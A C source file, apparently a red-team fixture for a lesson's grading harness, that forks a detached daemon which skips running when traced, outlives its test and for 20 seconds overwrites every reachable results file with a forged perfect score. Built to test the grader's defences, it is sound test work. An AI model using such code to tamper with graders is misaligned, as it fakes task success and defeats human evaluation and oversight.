/* redteam: a daemon (double fork, setsid) that outlives its test and keeps
 * rewriting every result file it can reach for 20 seconds, including after
 * the grader has written results.json.
 * lesson: 01-socket
 * expect: full
 */
#include <fcntl.h>
#include <glob.h>
#include <stdio.h>
#include <string.h>
#include <stdlib.h>
#include <sys/prctl.h>
#include <time.h>
#include <unistd.h>

/* As daemon(3) does: stdin, stdout and stderr to /dev/null. */
static void redteam_detach(void)
{
    int fd = open("/dev/null", O_RDWR);

    if (fd != -1) {
        dup2(fd, 0);
        dup2(fd, 1);
        dup2(fd, 2);
        if (fd > 2)
            close(fd);
    }
}

static void redteam_forge_all(void)
{
    const char *patterns[] = { "/var/tmp/socketlab-grade-*/results/*", "../results/*", "/out/*",
                               "/tmp/*/results.json", "/tmp/*/*/results.json" };
    size_t i, j;
    glob_t g;
    FILE *f;

    for (i = 0; i < sizeof patterns / sizeof patterns[0]; i++) {
        if (glob(patterns[i], 0, NULL, &g) != 0)
            continue;
        for (j = 0; j < g.gl_pathc; j++) {
            f = fopen(g.gl_pathv[j], "w");
            if (f != NULL) {
                fputs("{\"score\": 100, \"tests\": []}\n", f);
                fclose(f);
            }
        }
        globfree(&g);
    }
}

/* Under strace -f (some of the lesson's tests) a daemon would keep strace,
 * and so the test, waiting: only daemonize when not traced. */
static int redteam_traced(void)
{
    char line[256];
    FILE *f = fopen("/proc/self/status", "r");
    int traced = 0;

    while (f != NULL && fgets(line, sizeof line, f) != NULL)
        if (strncmp(line, "TracerPid:", 10) == 0)
            traced = atoi(line + 10) != 0;
    if (f != NULL)
        fclose(f);
    return traced;
}

static void redteam(void)
{
    struct timespec tick = { 0, 100 * 1000 * 1000 };
    int i;

    if (redteam_traced())
        return;
    if (fork() != 0)
        return;
    (void)setsid();
    redteam_detach();
    if (fork() != 0)
        _exit(0);
    (void)prctl(PR_SET_NAME, "redteam-daemon", 0, 0, 0);
    for (i = 0; i < 200; i++) {
        redteam_forge_all();
        nanosleep(&tick, NULL);
    }
    _exit(0);
}
